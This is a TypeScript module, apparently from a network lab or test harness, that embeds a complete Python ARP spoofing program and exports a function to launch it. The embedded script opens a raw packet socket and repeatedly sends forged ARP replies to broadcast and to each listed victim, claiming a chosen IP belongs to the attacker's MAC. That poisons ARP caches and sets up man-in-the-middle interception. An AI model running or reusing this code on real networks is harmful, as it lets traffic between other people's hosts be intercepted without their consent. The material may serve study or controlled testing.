/**
 * ARP spoofing sender: a short python3 program on a raw AF_PACKET socket (root, inside the attacker's
 * namespace) that sends ARP replies claiming `spoofIp` is at the attacker's MAC: a gratuitous reply to
 * broadcast and a targeted reply to each victim, every `intervalMs`, `count` rounds at most. Python's
 * standard library is enough (no scapy); Node has no AF_PACKET sockets.
 */
import { existsSync } from "node:fs";

export interface ArpSpoofOptions {
  iface: string;
  attackerMac: string;
  spoofIp: string;
  victims: { ip: string; mac: string }[];
  intervalMs: number;
  count: number;
}

export const ARP_SPOOF_PY = `
import json, signal, socket, struct, sys, time
o = json.loads(sys.argv[1])
stop = False
def on_term(*_):
    global stop
    stop = True
signal.signal(signal.SIGTERM, on_term)
signal.signal(signal.SIGINT, on_term)
mac = lambda s: bytes.fromhex(s.replace(":", ""))
ip = lambda s: socket.inet_aton(s)
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
s.bind((o["iface"], 0))
me = mac(o["attackerMac"])
def reply(dst_mac, target_mac, target_ip):
    eth = dst_mac + me + struct.pack("!H", 0x0806)
    arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + me + ip(o["spoofIp"]) + target_mac + target_ip
    return eth + arp + bytes(18)
frames = [reply(b"\\xff" * 6, b"\\xff" * 6, ip(o["spoofIp"]))]
for v in o["victims"]:
    frames.append(reply(mac(v["mac"]), mac(v["mac"]), ip(v["ip"])))
sent = 0
deadline = time.time() + o["count"] * o["intervalMs"] / 1000 + 5
for _ in range(o["count"]):
    if stop or time.time() > deadline:
        break
    for f in frames:
        s.send(f)
        sent += 1
    time.sleep(o["intervalMs"] / 1000)
print(json.dumps({"agent": "arp-spoof", "framesSent": sent}))
`;

/** [cmd, args] for python3 running the sender. */
export function arpSpoofCommand(o: ArpSpoofOptions): [string, string[]] {
  // The system interpreter starts in ~50 ms; a version-manager shim on PATH can take seconds.
  const py = existsSync("/usr/bin/python3") ? "/usr/bin/python3" : "python3";
  return [py, ["-c", ARP_SPOOF_PY, JSON.stringify(o)]];
}
